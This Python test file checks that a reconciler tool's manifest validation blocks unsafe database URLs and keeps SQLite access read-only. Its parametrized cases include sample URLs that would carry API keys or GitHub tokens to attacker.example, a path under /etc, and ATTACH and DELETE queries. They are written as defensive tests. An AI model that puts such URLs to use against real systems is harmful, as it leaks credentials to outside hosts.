"""`url:` in a manifest: variables only in the user name and password, never an API key's
variable, and a SQLite file only inside the repository, read-only."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from reconciler.errors import ConfigError, ManifestError, SourceError
from reconciler.manifest import load_manifests
from reconciler.sources import read_members
from tests.sources import line_of, load_audience


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    monkeypatch.chdir(root)
    return root


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://app:${PW}@${ITERABLE_API_KEY}.attacker.example/db",
        "postgresql://app:${PW}@${PW}.attacker.example/db",
        "postgresql://app:${PW}@db:${PGPORT}/x",
        "postgresql://app:${PW}@db/x?sslmode=${PW}",
        "sqlite:////etc/${PW}.db",
        "${DATABASE_URL}",
        "postgresql://app:${ITERABLE_API_KEY}@db/x",
        "postgresql://${GITHUB_TOKEN}@attacker.example/x",
    ],
)
def test_validation_refuses_a_variable_outside_the_login_or_naming_a_key(
    repo: Path, url: str
) -> None:
    with pytest.raises(ManifestError) as raised:
        load_audience(repo, {"sql": "SELECT 1 AS email", "url": url})
    line = line_of(repo / "aud.yaml", '"url"')
    (problem,) = raised.value.problems
    assert str(problem).startswith(f"aud.yaml:{line}:"), problem
    assert "spec.members.url" in str(problem)


def test_a_destination_key_variable_is_refused_in_any_url(repo: Path) -> None:
    (repo / "m.yaml").write_text(
        "apiVersion: reconciler/v1\nkind: Destination\nmetadata: {name: prod}\n"
        "spec: {region: us, projectType: email, apiKey: {env: PROD_KEY}}\n---\n"
        "apiVersion: reconciler/v1\nkind: Audience\nmetadata: {name: a}\n"
        "spec:\n  destination: prod\n  members:\n    sql: SELECT 1 AS email\n"
        "    url: postgresql://app:${PROD_KEY}@db.example/x\n"
    )
    with pytest.raises(ManifestError) as raised:
        load_manifests(repo)
    (problem,) = raised.value.problems
    assert str(problem).startswith("m.yaml:13:")
    assert "${PROD_KEY} is refused: destination 'prod' reads its API key from it" in str(problem)


def test_a_sqlite_file_outside_the_repository_is_refused_and_not_created(
    repo: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.db"
    audience = load_audience(repo, {"sql": "SELECT 1 AS email", "url": f"sqlite:///{outside}"})
    with pytest.raises(ConfigError, match=r"^aud.yaml:\d+:\d+: the SQLite database .* outside"):
        read_members(audience, "email")
    missing = load_audience(repo, {"sql": "SELECT 1 AS email", "url": "sqlite:///new.db"})
    with pytest.raises(ConfigError, match="SQLite database file not found"):
        read_members(missing, "email")
    duck = load_audience(repo, {"sql": "SELECT 1 AS email", "url": "duckdb:///x.duckdb"})
    with pytest.raises(ConfigError, match=r"duckdb:// URL is refused"):
        read_members(duck, "email")
    assert not outside.exists() and not (repo / "new.db").exists()


def test_a_sqlite_file_in_the_repository_is_only_read(repo: Path, tmp_path: Path) -> None:
    with sqlite3.connect(repo / "crm.db") as connection:
        connection.execute("CREATE TABLE t (email TEXT)")
        connection.execute("INSERT INTO t VALUES ('a@example.com')")
    connection.close()
    ok = load_audience(repo, {"sql": "SELECT email FROM t", "url": "sqlite:///crm.db"})
    assert list(read_members(ok, "email").members) == ["a@example.com"]
    for query in (
        f"ATTACH DATABASE '{tmp_path / 'planted.db'}' AS p",
        "DELETE FROM t RETURNING email",
        "PRAGMA journal_mode = DELETE",
    ):
        audience = load_audience(repo, {"sql": query, "url": "sqlite:///crm.db"})
        with pytest.raises(SourceError, match=r"^aud.yaml:\d+:\d+: query failed \(sqlite\)"):
            read_members(audience, "email")
    assert not (tmp_path / "planted.db").exists()
    assert list(read_members(ok, "email").members) == ["a@example.com"]
